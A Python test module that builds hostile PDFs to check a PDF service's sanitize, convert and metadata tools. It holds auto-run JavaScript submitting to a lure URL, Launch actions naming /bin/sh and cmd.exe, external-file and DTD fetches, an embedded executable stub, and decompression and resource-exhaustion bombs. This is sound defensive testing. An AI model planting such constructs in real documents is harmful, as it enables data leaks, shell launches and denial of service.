"""PDF documents whose content means harm: actions, locks, pictures, and things without number."""

from io import BytesIO
from pathlib import Path

import pikepdf

from tests.hostile.case import Lures, Make, bytes_of
from tests.hostile.cases.making import when_asked, with_lures
from tests.hostile.cases.pdf_parts import MiB, one_page, pdf_case, stream

FINELY = {"dpi": 18}
WORDS = b"BT /F 20 Tf 9 90 Td (word) Tj ET"
ACTIVE = (
    b"/JavaScript", b"app.alert", b"/Launch", b"/GoToR", b"/SubmitForm", b"/EmbeddedFile", b"/ImportData",
    b"/XFA",
)  # fmt: skip


def active(lures: Lures) -> bytes:
    """A document that does all it can when it is opened, and carries a program."""
    url, secret = str(lures.url).encode(), str(lures.secret).encode()
    catalogue = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>"
        b"/Names<</JavaScript<</Names[(a) 4 0 R]>>/EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>"
        b"/AcroForm<</Fields[]/XFA 10 0 R>>>>"
    )
    actions = (
        b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('%s'\\))/Next 5 0 R>>" % url,
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>/Next 6 0 R>>",
        b"<</S/GoToR/F(%s)/D[0/Fit]/Next 7 0 R>>" % secret,
        b"<</S/SubmitForm/F<</FS/URL/F(%s/form)>>/Next 8 0 R>>" % url,
        b"<</S/ImportData/F(%s)>>" % secret,
    )
    program = (
        b"<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>",
        stream(b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "%s/a.dtd"><a/>' % url),
        stream(b"MZ" + bytes(99), b"/Type/EmbeddedFile"),
    )
    return one_page(b"/AA<</O 4 0 R>>", *actions, *program, catalogue=catalogue)


def outside(lures: Lures) -> bytes:
    """A page whose content and picture are in other files, and a link that is followed by nobody."""
    url, secret = str(lures.url).encode(), str(lures.secret).encode()
    picture = b"/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray"
    return one_page(
        b"/Resources<</XObject<</X 5 0 R/Y 6 0 R/Z 7 0 R>>>>/Contents[4 0 R 8 0 R]"
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(%s)>>>>]" % url,
        stream(b"", b"/F(%s)" % secret),
        stream(b"", picture + b"/F(%s)" % secret),
        stream(b"", picture + b"/F<</FS/URL/F(%s/a.jpg)>>/FFilter/DCTDecode" % url),
        stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>" % secret),
        stream(b"/X Do /Y Do /Z Do"),
    )


def locked(**how: object) -> Make:
    """A document that pikepdf encrypts."""

    def write() -> bytes:
        made = BytesIO()
        with pikepdf.new() as new:
            new.add_blank_page()
            new.save(made, encryption=pikepdf.Encryption(**how))  # type: ignore[arg-type]
        return made.getvalue()

    return when_asked(write)


def for_a_certificate() -> bytes:
    """A document that only the owner of a key may open."""
    entries = b"/Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s4/V 2/Length 128/Recipients[<3080>]"
    return one_page(trailer=b"/ID[<00><00>]/Encrypt<<%s>>" % entries)


def picture(compression: bytes, data: bytes, *, bits: int = 8, parameters: bytes = b"") -> bytes:
    """A page with a picture of ten gigapixels."""
    entries = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent %d" % bits
    space = b"/ColorSpace/DeviceGray/Filter/%s/DecodeParms<<%s>>" % (compression, parameters)
    page = b"/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R"
    return one_page(page, stream(data, entries + space), stream(b"200 0 0 200 0 0 cm /X Do"))


def annotated(path: Path, _: Lures) -> None:
    """A page with one annotation 200,000 times."""
    note = b"<</Type/Annot/Subtype/Square/F 4/Rect[0 0 9 9]/AP<</N 5 0 R>>>>"
    look = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    path.write_bytes(one_page(b"/Annots[%s]" % (b"4 0 R " * 200_000), note, look))


def lettered(path: Path, _: Lures) -> None:
    """A page that writes a letter in each of ten thousand fonts."""
    fonts = [
        b"<</Type/Font/Subtype/Type1/BaseFont/F%d/FirstChar 97/LastChar 97/Widths[600]>>" % number
        for number in range(10_000)
    ]
    names = b"".join(b"/F%d %d 0 R" % (number, number + 5) for number in range(10_000))
    text = b"BT " + b"".join(b"/F%d 9 Tf (a) Tj " % number for number in range(10_000)) + b"ET"
    path.write_bytes(one_page(b"/Resources<</Font<<%s>>>>/Contents 4 0 R" % names, stream(text), *fonts))


RUN_LENGTH = bytes([129, 0]) * 1_000
PICTURES = {
    "JBIG2": picture(
        b"JBIG2Decode", bytes([0, 0, 0, 0, 0x30, 0, 1, 0, 0, 0, 19]) + b"\0\1\x86\xa0" * 4, bits=1
    ),
    "JPX": picture(b"JPXDecode", b"\xff\x4f\xff\x51" + bytes(200)),
    "CCITT": picture(b"CCITTFaxDecode", bytes(1_000), bits=1, parameters=b"/K -1/Columns 100000/Rows 100000"),
    "run-length": picture(b"RunLengthDecode", RUN_LENGTH),
    "JPEG": picture(b"DCTDecode", b"\xff\xd8\xff\xe0" + bytes(100)),
}

CASES = (
    pdf_case(
        id="H057",
        what="actions that are removed",
        tool="pdf-sanitize",
        make=with_lures(active),
        expect=("completed",),
        absent=ACTIVE,
    ),
    pdf_case(
        id="H057",
        what="actions that are told",
        tool="pdf-metadata",
        make=with_lures(active),
        expect=("completed",),
        absent=(b'"javascript": false', b'"attachments": []'),
    ),
    *(
        pdf_case(
            id="H057",
            what=f"{what}, for {tool}",
            tool=tool,
            options=options,
            make=with_lures(write),
            expect=("completed",),
        )
        for what, write in (("actions that are not done", active), ("content that is elsewhere", outside))
        for tool, options in (
            ("pdf-to-images", FINELY),
            ("pdf-to-docx", {}),
            ("pdf-to-pdfa", {}),
            ("pdf-compress", {}),
        )
    ),
    pdf_case(
        id="H057",
        what="a picture that is elsewhere",
        tool="pdf-extract-images",
        options={"min_width": 1, "min_height": 1},
        make=with_lures(outside),
        expect=("input_not_allowed",),
    ),
    *(
        pdf_case(id="H058", what=what, tool="pdf-rotate", options=options, make=make, expect=(expect,))
        for what, options, make, expect in (
            ("a password that is missing", {}, locked(user="a", owner="b", R=4), "input_encrypted"),
            (
                "a password that is wrong",
                {"password": "c"},
                locked(user="a", owner="b", R=4),
                "input_encrypted",
            ),
            ("a new lock", {}, locked(user="a", owner="b", R=6), "input_encrypted"),
            ("a new lock and no key", {"password": "c"}, locked(user="a", owner="b", R=6), "input_encrypted"),
            ("a long password", {"password": "c" * 100_000}, locked(user="a", owner="b"), "validation_error"),
            ("an owner's password only", {}, locked(owner="b", R=6), "completed"),
            ("a certificate", {}, bytes_of(for_a_certificate()), "input_encrypted"),
        )
    ),
    *(
        pdf_case(
            id="H059",
            what=f"ten gigapixels of {what}, for {tool}",
            tool=tool,
            options=options,
            make=bytes_of(content),
            expect=expect,
            output_at_most=MiB,
        )
        for what, content in PICTURES.items()
        for tool, options, expect in (
            ("pdf-extract-images", {}, ("input_not_allowed",) if what == "JPX" else ("input_limit",)),
            ("pdf-to-images", FINELY, ("completed",)),
            ("pdf-compress", {}, ("completed",)),
        )
    ),
    *(
        pdf_case(id="H061", what=f"{what}, for {tool}", tool=tool, options=options, make=make, expect=expect)
        for what, make, tool, options, expect in (
            ("ten thousand fonts", lettered, "pdf-to-images", FINELY, ("completed",)),
            ("ten thousand fonts", lettered, "pdf-to-text", {}, ("completed",)),
            ("200,000 annotations", annotated, "pdf-to-images", FINELY, ("completed",)),
            ("200,000 annotations", annotated, "pdf-metadata", {}, ("completed",)),
        )
    ),
)
